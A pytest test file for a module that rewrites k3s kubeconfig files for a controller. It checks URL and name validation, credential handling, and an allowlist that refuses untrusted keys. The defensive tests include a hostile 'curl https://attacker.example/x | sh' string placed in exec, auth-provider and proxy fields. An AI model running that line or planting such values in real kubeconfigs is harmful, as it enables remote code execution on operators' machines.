"""Unit tests of the pure k3s kubeconfig rewrite."""

from __future__ import annotations

import copy
from typing import Any

import pytest
from ansible_collections.binder.ingress.plugins.module_utils.kubeconfig import (
    KubeconfigError,
    rewrite_k3s_kubeconfig,
    server_url,
)

# Stand-ins for the base64 blobs k3s writes; a real key must never show in an error.
CA = "Q0EtREFUQS1GT1ItVEVTVFM="
CERT = "Q0xJRU5ULUNFUlQtRk9SLVRFU1RT"
KEY = "U0VDUkVULUNMSUVOVC1LRVktRk9SLVRFU1RT"


def k3s_yaml() -> dict[str, Any]:
    """The shape of /etc/rancher/k3s/k3s.yaml as a fresh k3s server writes it."""
    return {
        "apiVersion": "v1",
        "clusters": [
            {
                "cluster": {"certificate-authority-data": CA, "server": "https://127.0.0.1:6443"},
                "name": "default",
            }
        ],
        "contexts": [{"context": {"cluster": "default", "user": "default"}, "name": "default"}],
        "current-context": "default",
        "kind": "Config",
        "preferences": {},
        "users": [{"name": "default", "user": {"client-certificate-data": CERT, "client-key-data": KEY}}],
    }


def test_rewrite_points_server_renames_entries_and_sets_namespace() -> None:
    out = rewrite_k3s_kubeconfig(k3s_yaml(), "hetzner-gesis", "192.0.2.10", namespace="gesis")
    assert out == {
        "apiVersion": "v1",
        "clusters": [
            {
                "cluster": {"certificate-authority-data": CA, "server": "https://192.0.2.10:6443"},
                "name": "hetzner-gesis",
            }
        ],
        "contexts": [
            {
                "context": {"cluster": "hetzner-gesis", "user": "hetzner-gesis", "namespace": "gesis"},
                "name": "hetzner-gesis",
            }
        ],
        "current-context": "hetzner-gesis",
        "kind": "Config",
        "preferences": {},
        "users": [
            {"name": "hetzner-gesis", "user": {"client-certificate-data": CERT, "client-key-data": KEY}}
        ],
    }


def test_namespace_defaults_to_member() -> None:
    out = rewrite_k3s_kubeconfig(k3s_yaml(), "bids-ovh", "192.0.2.11")
    assert out["contexts"][0]["context"]["namespace"] == "bids-ovh"


def test_input_is_not_modified() -> None:
    original = k3s_yaml()
    before = copy.deepcopy(original)
    rewrite_k3s_kubeconfig(original, "hetzner-2i2c", "192.0.2.12")
    assert original == before


def test_rewrite_is_idempotent() -> None:
    once = rewrite_k3s_kubeconfig(k3s_yaml(), "hetzner-2i2c", "192.0.2.12", namespace="2i2c")
    assert rewrite_k3s_kubeconfig(once, "hetzner-2i2c", "192.0.2.12", namespace="2i2c") == once


@pytest.mark.parametrize(
    ("address", "port", "expected"),
    [
        ("192.0.2.10", 6443, "https://192.0.2.10:6443"),
        ("2001:db8::10", 6443, "https://[2001:db8::10]:6443"),
        ("2001:0db8:0000::0010", 6443, "https://[2001:db8::10]:6443"),
        ("k3s.Example.org.", 6443, "https://k3s.example.org:6443"),
        ("gesis.mybinder.org", 16443, "https://gesis.mybinder.org:16443"),
    ],
)
def test_server_url(address: str, port: int, expected: str) -> None:
    assert server_url(address, port) == expected


@pytest.mark.parametrize(
    ("address", "port", "message"),
    [
        ("", 6443, "address must be a non-empty string"),
        (None, 6443, "address must be a non-empty string, got NoneType"),
        ("https://192.0.2.10", 6443, "neither an IP address nor a DNS name"),
        ("192.0.2.10:6443", 6443, "neither an IP address nor a DNS name"),
        ("bad_host.example.org", 6443, "neither an IP address nor a DNS name"),
        ("192.0.2.10", 0, "port must be an integer from 1 to 65535"),
        ("192.0.2.10", 70000, "port must be an integer from 1 to 65535"),
        ("192.0.2.10", "6443", "port must be an integer"),
        ("192.0.2.10", True, "port must be an integer"),
    ],
)
def test_server_url_rejects(address: Any, port: Any, message: str) -> None:
    with pytest.raises(KubeconfigError, match=message):
        server_url(address, port)


def _without(key: str) -> dict[str, Any]:
    config = k3s_yaml()
    del config[key]
    return config


def _with(path: tuple[Any, ...], value: Any) -> dict[str, Any]:
    config = k3s_yaml()
    node: Any = config
    for step in path[:-1]:
        node = node[step]
    node[path[-1]] = value
    return config


@pytest.mark.parametrize(
    ("config", "message"),
    [
        ("not a mapping", "the kubeconfig must be a mapping, got str"),
        ([], "the kubeconfig must be a mapping, got list"),
        (_with(("kind",), "Pod"), "kind must be 'Config'"),
        (_with(("apiVersion",), "v2"), "apiVersion must be 'v1'"),
        (_without("clusters"), "clusters must be a list, got NoneType"),
        (_without("users"), "users must be a list, got NoneType"),
        (_without("contexts"), "contexts must be a list, got NoneType"),
        (_with(("clusters",), []), "clusters must have exactly one entry .* found 0"),
        (_with(("users",), k3s_yaml()["users"] * 2), "users must have exactly one entry .* found 2"),
        (_with(("clusters", 0), "default"), r"clusters\[0\] must be a mapping, got str"),
        (_with(("clusters", 0, "name"), 3), r"clusters\[0\].name must be a string, got int"),
        (_with(("users", 0, "user"), None), r"users\[0\].user must be a mapping, got NoneType"),
        (_with(("clusters", 0, "cluster", "server"), None), r"clusters\[0\].cluster.server must be a string"),
        (
            _with(("contexts", 0, "context", "user"), "admin"),
            r"contexts\[0\].context.user does not name users\[0\]",
        ),
        (_with(("contexts", 0, "context", "cluster"), "x"), r"contexts\[0\].context.cluster does not name"),
    ],
)
def test_malformed_kubeconfig_is_refused(config: Any, message: str) -> None:
    with pytest.raises(KubeconfigError, match=message) as info:
        rewrite_k3s_kubeconfig(config, "hetzner-gesis", "192.0.2.10")
    assert KEY not in str(info.value)


@pytest.mark.parametrize(
    ("member", "namespace", "message"),
    [
        ("Hetzner-Gesis", None, "member 'Hetzner-Gesis' must be a DNS-1123 label"),
        ("", None, "member '' must be a DNS-1123 label"),
        (None, None, "member must be a string, got NoneType"),
        ("a" * 64, None, "must be a DNS-1123 label"),
        ("hetzner-gesis", "Gesis_ns", "namespace 'Gesis_ns' must be a DNS-1123 label"),
        ("hetzner-gesis", 5, "namespace must be a string, got int"),
    ],
)
def test_bad_names_are_refused(member: Any, namespace: Any, message: str) -> None:
    with pytest.raises(KubeconfigError, match=message):
        rewrite_k3s_kubeconfig(k3s_yaml(), member, "192.0.2.10", namespace=namespace)


# ---------------------------------------------------------------------------
# The node is not trusted: only the allowlist reaches the controller.

# A value that must never show in an error: what a hostile node would put in the file.
HOSTILE = "sh -c 'curl https://attacker.example/x | sh' SECRET-MARKER"

# Every key the controller must refuse, where the node may write it: code the controller would
# run, TLS checks it would drop, a proxy it would talk through, files it would read, and the
# extension points.
REFUSED = [
    (("users", 0, "user", "exec"), {"command": "sh", "args": ["-c", HOSTILE], "apiVersion": "v1"}),
    (("users", 0, "user", "auth-provider"), {"name": "oidc", "config": {"cmd-path": HOSTILE}}),
    (("clusters", 0, "cluster", "insecure-skip-tls-verify"), True),
    (("clusters", 0, "cluster", "proxy-url"), f"http://{HOSTILE}"),
    (("clusters", 0, "cluster", "tls-server-name"), HOSTILE),
    (("clusters", 0, "cluster", "certificate-authority"), f"/etc/{HOSTILE}"),
    (("users", 0, "user", "client-certificate"), f"/home/op/{HOSTILE}"),
    (("users", 0, "user", "client-key"), f"/home/op/{HOSTILE}"),
    (("users", 0, "user", "tokenFile"), f"/home/op/{HOSTILE}"),
    (("users", 0, "user", "username"), HOSTILE),
    (("users", 0, "user", "password"), HOSTILE),
    (("users", 0, "user", "as"), HOSTILE),
    (("clusters", 0, "cluster", "extensions"), [{"name": "x", "extension": HOSTILE}]),
    (("users", 0, "user", "extensions"), [{"name": "x", "extension": HOSTILE}]),
    (("contexts", 0, "context", "extensions"), [{"name": "x", "extension": HOSTILE}]),
    (("extensions",), [{"name": "x", "extension": HOSTILE}]),
    (("preferences", "colors"), True),
    (("preferences", "extensions"), [{"name": "x", "extension": HOSTILE}]),
    (("clusters", 0, "extra"), HOSTILE),
    (("users", 0, "extra"), HOSTILE),
    (("contexts", 0, "extra"), HOSTILE),
]


def _dotted(path: tuple[Any, ...]) -> str:
    text = ""
    for step in path:
        text += f"[{step}]" if isinstance(step, int) else f".{step}" if text else step
    return text


@pytest.mark.parametrize(("path", "value"), REFUSED, ids=[_dotted(path) for path, _value in REFUSED])
def test_every_key_outside_the_allowlist_is_refused_by_name(path: tuple[Any, ...], value: Any) -> None:
    with pytest.raises(KubeconfigError) as info:
        rewrite_k3s_kubeconfig(_with(path, value), "hetzner-gesis", "192.0.2.10")
    message = str(info.value)
    assert f"{_dotted(path)} is not allowed" in message
    assert message.count("is not allowed") == 1
    assert "SECRET-MARKER" not in message and "attacker" not in message
    assert KEY not in message


def test_every_refused_key_is_named_at_once() -> None:
    config = k3s_yaml()
    config["users"][0]["user"]["exec"] = {"command": "sh"}
    config["clusters"][0]["cluster"]["insecure-skip-tls-verify"] = True
    config["extensions"] = []
    with pytest.raises(KubeconfigError) as info:
        rewrite_k3s_kubeconfig(config, "hetzner-gesis", "192.0.2.10")
    message = str(info.value)
    for key in ("users[0].user.exec", "clusters[0].cluster.insecure-skip-tls-verify", "extensions"):
        assert f"{key} is not allowed" in message


def test_a_hostile_key_name_is_shown_shortened_and_escaped() -> None:
    name = "\x1b[2J" + "x" * 200
    with pytest.raises(KubeconfigError) as info:
        rewrite_k3s_kubeconfig(_with(("users", 0, "user", name), 1), "hetzner-gesis", "192.0.2.10")
    message = str(info.value)
    assert "\x1b" not in message
    assert "x" * 65 not in message
    assert "users[0].user.'\\x1b[2J" in message


def test_the_result_is_built_only_from_the_allowlist() -> None:
    """The node's server, names and empty preferences never reach the controller's file."""
    config = k3s_yaml()
    config["clusters"][0]["cluster"]["server"] = "https://attacker.example:6443"
    out = rewrite_k3s_kubeconfig(config, "hetzner-gesis", "192.0.2.10")
    assert out["clusters"] == [
        {
            "name": "hetzner-gesis",
            "cluster": {"server": "https://192.0.2.10:6443", "certificate-authority-data": CA},
        }
    ]
    assert out["users"] == [
        {"name": "hetzner-gesis", "user": {"client-certificate-data": CERT, "client-key-data": KEY}}
    ]
    assert "attacker" not in repr(out)


def test_a_bearer_token_is_taken_instead_of_a_client_certificate() -> None:
    config = k3s_yaml()
    config["users"][0]["user"] = {"token": "K10abc::server:def"}
    out = rewrite_k3s_kubeconfig(config, "hetzner-gesis", "192.0.2.10")
    assert out["users"] == [{"name": "hetzner-gesis", "user": {"token": "K10abc::server:def"}}]


@pytest.mark.parametrize(
    ("user", "message"),
    [
        ({}, r"users\[0\].user must give client-certificate-data and client-key-data, or a token"),
        ({"client-certificate-data": CERT}, "client-certificate-data and client-key-data together"),
        ({"client-key-data": KEY}, "client-certificate-data and client-key-data together"),
        (
            {"client-certificate-data": CERT, "client-key-data": 5},
            r"client-key-data must be base64 text, got int",
        ),
        (
            {"client-certificate-data": CERT, "client-key-data": "not base64!"},
            r"client-key-data must be base64 text",
        ),
        ({"token": "two\nlines"}, r"users\[0\].user.token must be one line of printable text"),
        ({"token": ""}, r"users\[0\].user.token must be one line of printable text"),
    ],
)
def test_the_user_must_carry_usable_credentials(user: dict[str, Any], message: str) -> None:
    with pytest.raises(KubeconfigError, match=message) as info:
        rewrite_k3s_kubeconfig(_with(("users", 0, "user"), user), "hetzner-gesis", "192.0.2.10")
    assert KEY not in str(info.value) and "not base64!" not in str(info.value)


@pytest.mark.parametrize("ca", [None, "", 7, "%%%"])
def test_the_cluster_must_carry_its_ca_as_data(ca: Any) -> None:
    config = k3s_yaml()
    if ca is None:
        del config["clusters"][0]["cluster"]["certificate-authority-data"]
    else:
        config["clusters"][0]["cluster"]["certificate-authority-data"] = ca
    with pytest.raises(
        KubeconfigError, match=r"clusters\[0\].cluster.certificate-authority-data must be base64"
    ):
        rewrite_k3s_kubeconfig(config, "hetzner-gesis", "192.0.2.10")


@pytest.mark.parametrize("preferences", [None, {}])
def test_empty_preferences_are_accepted(preferences: Any) -> None:
    out = rewrite_k3s_kubeconfig(_with(("preferences",), preferences), "hetzner-gesis", "192.0.2.10")
    assert out["preferences"] == {}
